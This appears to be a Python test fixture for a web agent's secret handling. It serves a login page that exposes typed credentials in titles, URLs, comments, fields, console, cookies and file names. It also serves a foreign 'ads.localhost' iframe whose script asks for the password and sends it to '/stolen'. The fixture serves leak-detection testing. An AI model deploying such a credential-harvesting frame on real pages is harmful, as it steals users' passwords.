"""A login that gives away what was typed into it wherever a page can: text, title, URL, alert, fields,
console, comments, requests, names of files; and a frame of another host that asks for the password."""

import base64
import html
import http.server
import json
from urllib.parse import parse_qs, quote, quote_plus, urlencode, urlsplit

from tests.left_behind import MARK
from tests.pages.kit import Reply
from webagent.secrets import Secret, Secrets

USER = f"ana+{MARK}@example.com"
PASSWORD = f"p\"ä&%<'x /\\+{MARK}9"
TOKEN = "4b2f9c7d1e"
"""What the site puts into its own addresses, and into no field."""
PAGE = {"Content-Type": "text/html; charset=utf-8"}
SHOP, FOREIGN = "telltale.localhost", "ads.localhost"
KNOWN = Secrets(
    (
        Secret("USER", USER, f"*.{SHOP}"),
        Secret("PASSWORD", PASSWORD, SHOP),
        Secret("CODE", "4f5e-77", FOREIGN),
        Secret("NOTE", "two\nlines of it"),
    )
)


def _login(request: http.server.BaseHTTPRequestHandler) -> Reply:
    port = request.headers["Host"].partition(":")[2]
    return 200, PAGE, f"""<!doctype html><title>Log in</title><h1>Log in</h1>
<form method=post action=/session><label>User name <input name=user></label>
<label>Password <input name=password type=password></label><button>Sign in</button></form>
<form method=post action="http://{FOREIGN}:{port}/verify"><label>Repeat it <input name=password type=password
aria-label="Password again"></label><button>Verify</button></form>
<div role=search><label>Search <input name=q></label></div>
<label>Remarks <textarea></textarea></label>
<label>Kind <select><option>red<option>blue</select></label>
<iframe src="http://{FOREIGN}:{port}/ask" title="Ad"></iframe>
<iframe srcdoc="<label>Inner name <input></label>" title="Inner"></iframe>
<output></output>
<script>document.querySelector('[name=user]').oninput = (event) => {{
  document.querySelector('output').textContent = 'Hello ' + event.target.value; }}</script>
""".encode()  # fmt: skip


def _session(request: http.server.BaseHTTPRequestHandler) -> Reply:
    sent = request.rfile.read(int(request.headers["Content-Length"])).decode()
    form = {name: values[0] for name, values in parse_qs(sent).items()}
    if form != {"user": USER, "password": PASSWORD}:
        return 403, PAGE, b"<h1>Wrong name or password</h1>"
    return 303, {"Location": f"/welcome/{quote(USER)}?{urlencode(form)}&session={TOKEN}"}, b""


def _welcome(request: http.server.BaseHTTPRequestHandler) -> Reply:
    user, password = html.escape(USER), html.escape(PASSWORD)
    both = json.dumps({"user": USER, "password": PASSWORD}).replace("<", "\\u003c")
    token = base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode()
    return 200, PAGE, f"""<!doctype html><title>Welcome {user}, {password}</title>
<h1>Welcome {user}</h1><p>Your password is {password}, in capitals {password.upper()}, and in a URL
{html.escape(quote(PASSWORD, safe=""))}. Your token is {token}.</p>
<!-- {password} --><input type=hidden value="{password}"><label>Saved <input value="{password}"></label>
<label>Again <input type=password value="{password}"></label><img alt="{user}" src=/none.png>
<a href="/file?{html.escape(urlencode({"name": f"{USER} {PASSWORD}.txt"}))}">Report of {user}</a>
<table><tr><td>Balance</td><td>4217</td></tr></table>
<script>const both = {both};
console.log(both.password); console.error(both.user, both.password);
localStorage.setItem("login", JSON.stringify(both)); document.cookie = "login=" + encodeURIComponent(both.password);
fetch("/api", {{method: "POST", body: JSON.stringify(both)}});
alert("Logged in as " + both.user + " with " + both.password);</script>""".encode()  # fmt: skip


def _file(request: http.server.BaseHTTPRequestHandler) -> Reply:
    name = parse_qs(urlsplit(request.path).query)["name"][0]
    return (
        200,
        {"Content-Disposition": f"attachment; filename*=UTF-8''{quote(name, safe='')}"},
        b"nothing in it",
    )


ASKING = b"""<!doctype html><title>Ad</title><label>Confirm your password <input name=password type=password></label>
<script>document.querySelector('input').oninput = (event) => { fetch('/stolen?' + event.target.value); }</script>"""

PAGES = {
    "/login": _login,
    "/session": _session,
    f"/welcome/{quote(USER)}": _welcome,
    "/file": _file,
    "/api": "{}",
    "/ask": ASKING,
}


def spellings(value: str) -> set[bytes]:
    """The value as files may hold it; of base64 the part that does not depend on its neighbours."""
    texts = {
        value, value.lower(), value.upper(), quote(value), quote(value, safe=""), quote_plus(value),
        quote(quote(value, safe="")), json.dumps(value)[1:-1], json.dumps(value, ensure_ascii=False)[1:-1],
        json.dumps(json.dumps(value))[3:-3], html.escape(value), html.escape(value, quote=False),
    }  # fmt: skip
    data = {text.encode() for text in texts}
    for before in range(3):
        data.add(base64.b64encode(bytes(before) + value.encode())[before + 2 : -4])
    return data
